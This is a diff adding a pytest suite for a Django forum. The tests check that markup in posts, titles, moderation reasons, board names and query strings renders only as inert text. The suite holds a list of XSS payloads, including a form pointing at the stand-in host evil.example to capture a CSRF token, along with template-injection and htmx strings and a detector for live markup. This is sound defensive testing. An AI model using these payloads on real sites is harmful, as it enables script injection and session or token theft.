@@ -1,0 +1,291 @@
+"""Markup in whatever people write comes out as text, on every page that shows it."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.test import Client
+from django.utils import timezone
+from django.utils.html import escape
+
+from forum.actions.loading import Written, load_thread
+from forum.actions.moderation import hide_post, lock_thread, suspend_person
+from forum.actions.posts import edit_post, reply_to
+from forum.actions.threads import start_thread
+from forum.models import Board, Category, Post, Thread, User
+from forum.refusals import Refusal
+from tests.corpora import corpus, data_json
+from tests.html_check import assert_safe
+
+HOSTILE: list[str] = data_json("markup_hostile.json")
+# What breaks out of where words stand in a page: attributes, the textarea, the title, templates.
+BREAKING_OUT = [
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    '" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)",
+    '"><svg onload=alert(1)>',
+    "{{ 7|add:7 }}{% debug %}{0.__class__}",
+    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
+    "<form id=reply-1 action=//evil.example><input name=csrfmiddlewaretoken form=reply-1></form>",
+    "&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;",
+    "%253Cscript%253Ealert(1)%253C/script%253E",
+]
+MARKUP = [text for text in (*HOSTILE, *BREAKING_OUT) if "<" in text or '"' in text]
+WORST = BREAKING_OUT[:5]
+CORPORA = ("bleach", "bleach_strings", "dompurify", "lxml_html_clean", "owasp_filter_evasion")
+
+OURS = re.compile(r"(?:https?://|mailto:|/(?!/)|#|\?|$)", re.IGNORECASE)
+ADDRESSES = {"href", "src", "action", "formaction", "poster", "data", "cite", "hx-get", "hx-post"}
+NOT_OURS = {"iframe", "object", "embed", "base", "math", "style", "template", "video"}
+
+
+class Hazards(HTMLParser):
+    """What in a page could act, and is not the page's own."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        attributes = {name: value or "" for name, value in attrs}
+        if tag in NOT_OURS:
+            self.found.append(tag)
+        if tag == "script" and not attributes.get("src", "").startswith("/"):
+            self.found.append(f"script {attributes}")
+        if tag == "img" and not attributes.get("src", "").startswith("/static/"):
+            self.found.append(f"img {attributes}")
+        if tag == "meta" and "http-equiv" in attributes:
+            self.found.append(f"meta {attributes}")
+        for name, value in attributes.items():
+            if name.startswith("on") or name in {"style", "srcdoc", "hx-vals"} or "hx-on" in name:
+                self.found.append(f"{tag} {name}={value}")
+            if name in ADDRESSES and not OURS.match(value):
+                self.found.append(f"{tag} {name}={value}")
+
+
+def assert_inert(html: str, *words: str) -> None:
+    """Nothing in a page acts, and these words are in it as text only."""
+    assert Hazards(html).found == []
+    for text in words:
+        assert text not in html, text
+
+
+def read(client: Client, address: str, status: int = 200) -> str:
+    response = client.get(address)
+    assert response.status_code == status, address
+    return str(response.content.decode())
+
+
+def test_the_check_has_teeth() -> None:
+    flagged = [text for text in MARKUP if Hazards(f"<p>{text}</p>").found]
+    assert len(flagged) > len(MARKUP) / 2
+    with pytest.raises(AssertionError):
+        assert_inert("<p><b onclick=alert(1)>x</b></p>")
+
+
+def written(author: User, texts: list[str]) -> list[Written]:
+    now = timezone.now()
+    posts = [Written(0, None, author, "The first.", now)]
+    posts += [Written(n, 0, author, text, now) for n, text in enumerate(texts, 1)]
+    return posts
+
+
+def payloads(name: str) -> Iterator[str]:
+    for each in json.loads(corpus(f"xss/{name}.json").read_text(encoding="utf-8")):
+        yield each if isinstance(each, str) else str(each["payload"])
+
+
+def storable(texts: list[str]) -> list[str]:
+    """Those that are posts at all: not blank, not too long."""
+    from forum.actions.posts import rendered_post
+
+    kept = []
+    for text in texts:
+        try:
+            rendered_post(text)
+        except Refusal:
+            continue
+        kept.append(text)
+    return kept
+
+
+@pytest.mark.parametrize("name", ["own", *CORPORA])
+def test_posts_of_a_thread_hold_no_live_markup(
+    board: Board, alice: User, as_bob: Client, name: str
+) -> None:
+    texts = storable(HOSTILE + BREAKING_OUT if name == "own" else list(payloads(name)))
+    assert texts
+    for start in range(0, len(texts), 190):
+        part = texts[start : start + 190]
+        thread = load_thread(board, title="Markup", posts=written(alice, part))
+        assert_inert(read(as_bob, thread.get_absolute_url()))
+        later = as_bob.get(
+            f"{thread.get_absolute_url()}?after=p{thread.last_post_id - 5}",
+            headers={"hx-request": "true"},
+        )
+        assert_inert(later.content.decode())
+        for post in Post.objects.filter(thread=thread):
+            assert_safe(post.html)
+    assert_inert(read(as_bob, "/u/alice/"))
+    assert_inert(read(as_bob, "/"))
+    assert_inert(read(as_bob, board.get_absolute_url()))
+
+
+@pytest.mark.parametrize("text", WORST)
+def test_every_page_about_a_post_shows_markup_as_text(
+    opening: Post, alice: User, bob: User, as_alice: Client, as_carol: Client, text: str
+) -> None:
+    post = reply_to(opening, author=alice, source=f"Before. {text}")
+    reply_to(post, author=bob, source="An answer, so that edits are kept.")
+    edit_post(post, by=alice, source=f"After. {text}")
+    for page in ("edit", "history", "menu", "reply", "delete"):
+        html = read(as_alice, f"/p/{post.pk}/{page}/")
+        assert_inert(html, *([text] if page != "reply" else []))
+    for do in ("preview", ""):
+        sent = {"source": text + "x" * (0 if do else 20_001), "do": do}
+        for headers in ({}, {"hx-request": "true"}):
+            shown = as_alice.post(f"/p/{opening.pk}/reply/", sent, headers=headers)
+            assert shown.status_code == (200 if do else 422)
+            assert_inert(shown.content.decode())
+    assert_inert(read(as_alice, f"/p/{post.pk}/reply/?quote=1&words={text}"))
+    for page in ("", f"{post.pk}/change/", f"hide/?id={post.pk}", "?q=Before"):
+        assert_inert(read(as_carol, f"/admin/forum/post/{page}"), text)
+    assert_inert(read(as_carol, f"/p/{post.pk}/hide/"), text)
+
+
+def test_titles_show_markup_as_text(
+    board: Board, alice: User, as_alice: Client, as_carol: Client
+) -> None:
+    titles = [title for title in MARKUP if len(title) <= 120]
+    threads = [start_thread(board, author=alice, title=title, source="x") for title in titles]
+    for thread in threads[-3:]:
+        post = Post.objects.get(thread=thread)
+        for page in (
+            thread.get_absolute_url(),
+            *(f"/p/{post.pk}/{page}/" for page in ("history", "menu", "delete", "reply")),
+        ):
+            assert_inert(read(as_alice, page), thread.title)
+        assert_inert(read(as_carol, f"/t/{thread.pk}/lock/"), thread.title)
+        assert_inert(read(as_carol, f"/admin/forum/thread/lock/?id={thread.pk}"), thread.title)
+        assert_inert(read(as_carol, f"/admin/forum/thread/{thread.pk}/change/"), thread.title)
+    for page in ("/", board.get_absolute_url(), "/u/alice/"):
+        assert_inert(read(as_alice, page), *titles)
+    assert_inert(read(as_carol, "/admin/forum/thread/"), *titles)
+    assert escape(threads[-1].title) in read(as_alice, "/")
+
+
+@pytest.mark.parametrize("reason", WORST[::2])
+def test_reasons_show_markup_as_text(
+    reply: Post, dan: User, alice: User, carol: User, visitor: Client, as_carol: Client, reason: str
+) -> None:
+    how: dict[str, Any] = {"by": carol, "reason": reason, "note": reason}
+    hidden = hide_post(reply, **how)
+    lock_thread(reply.thread, **how)
+    suspend_person(alice, **how)
+    thread = read(visitor, reply.thread.get_absolute_url())
+    assert_inert(thread, reason)
+    assert escape(reason) in thread
+    assert_inert(read(visitor, f"/p/{reply.pk}/", 410), reason)
+    assert_inert(read(visitor, "/u/alice/"), reason)
+    as_alice = Client()
+    as_alice.force_login(alice)
+    refused = as_alice.post(f"/p/{reply.parent_id}/reply/", {"source": "Words."})
+    assert_inert(refused.content.decode(), reason)
+    for page in (
+        *("moderationaction/", f"moderationaction/{hidden.pk}/change/"),
+        *(f"post/{reply.pk}/change/", f"thread/{reply.thread_id}/change/"),
+        *(f"user/{alice.pk}/change/", "user/", f"user/lift/?id={alice.pk}"),
+    ):
+        assert_inert(read(as_carol, f"/admin/forum/{page}"), reason)
+    for page in (f"/p/{reply.pk}/unhide/", f"/t/{reply.thread_id}/unlock/", "/u/alice/lift/"):
+        assert_inert(read(as_carol, page), reason)
+
+
+def test_boards_show_markup_as_text(as_alice: Client, as_erin: Client, alice: User) -> None:
+    for n, text in enumerate(WORST):
+        category = Category.objects.create(name=text)
+        board = Board.objects.create(
+            category=category, name=text, slug=f"b{n}", description=f"{text} indeed"
+        )
+        thread = start_thread(board, author=alice, title="Plain", source="Words.")
+        for page in (f"/b/b{n}/", f"/b/b{n}/new/", thread.get_absolute_url()):
+            assert_inert(read(as_alice, page), text)
+        for page in (f"board/{board.pk}/change/", f"board/{board.pk}/delete/"):
+            assert_inert(read(as_erin, f"/admin/forum/{page}"), text)
+    assert_inert(read(as_alice, "/"), *WORST)
+    assert_inert(read(as_erin, "/admin/forum/board/"), *WORST)
+    assert_inert(read(as_erin, "/admin/forum/category/"), *WORST)
+
+
+@pytest.mark.parametrize("text", [*WORST[::2], "javascript:alert(1)", "//evil.example"])
+def test_what_is_asked_for_comes_back_as_text(
+    thread: Thread, visitor: Client, as_carol: Client, text: str
+) -> None:
+    marked = [text] if set(text) & set('<"') else []
+    ask = dict.fromkeys(("q", "next", "after", "before", "at", "e", "o", "words"), text)
+    for page in ("/", "/accounts/login/", "/accounts/signup/", "/u/alice/", "/nowhere/"):
+        assert_inert(visitor.get(page, ask).content.decode(), *marked)
+    for page in ("/b/gardens/", thread.get_absolute_url()):
+        assert_inert(visitor.get(page, ask).content.decode(), *marked)
+    assert_inert(visitor.get(f"/nowhere/{text}").content.decode(), *marked)
+    for page in ("post", "thread", "user", "moderationaction"):
+        html = as_carol.get(f"/admin/forum/{page}/", {"q": text}, follow=True).content.decode()
+        assert_inert(html, *marked)
+    sent = visitor.post("/accounts/login/", {"login": text, "password": text})
+    assert_inert(sent.content.decode(), *marked)
+
+
+@pytest.mark.parametrize("name", MARKUP)
+def test_a_name_is_never_markup(name: str) -> None:
+    with pytest.raises(ValidationError):
+        User(username=name[:30]).clean_fields(exclude=["password", "email"])
+
+
+class Form(HTMLParser):
+    """The text in a page's textarea, as a browser sends it back."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.inside = False
+        self.text = ""
+        self.base = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.inside = tag == "textarea"
+        if tag == "input" and dict(attrs).get("name") == "base":
+            self.base = dict(attrs)["value"] or ""
+
+    def handle_endtag(self, tag: str) -> None:
+        self.inside = False
+
+    def handle_data(self, data: str) -> None:
+        if self.inside:
+            self.text += data
+
+
+def test_editing_five_times_without_a_change_changes_nothing(
+    opening: Post, alice: User, as_alice: Client
+) -> None:
+    source = "\n\n".join(["\n  Before.", *HOSTILE, *BREAKING_OUT, "&amp; &lt; \u2028 é\tend \n"])
+    post = reply_to(opening, author=alice, source=source)
+    post.refresh_from_db()
+    source, html = post.source, post.html
+    for _ in range(5):
+        form = Form(read(as_alice, f"/p/{post.pk}/edit/"))
+        # The first line break after the tag is the tag's.
+        sent = form.text.removeprefix("\n").replace("\n", "\r\n")
+        saved = as_alice.post(f"/p/{post.pk}/edit/", {"source": sent, "base": form.base})
+        assert saved.status_code == 302
+    post.refresh_from_db()
+    assert post.source == source
+    assert post.html == html
+    assert post.edited_at is None
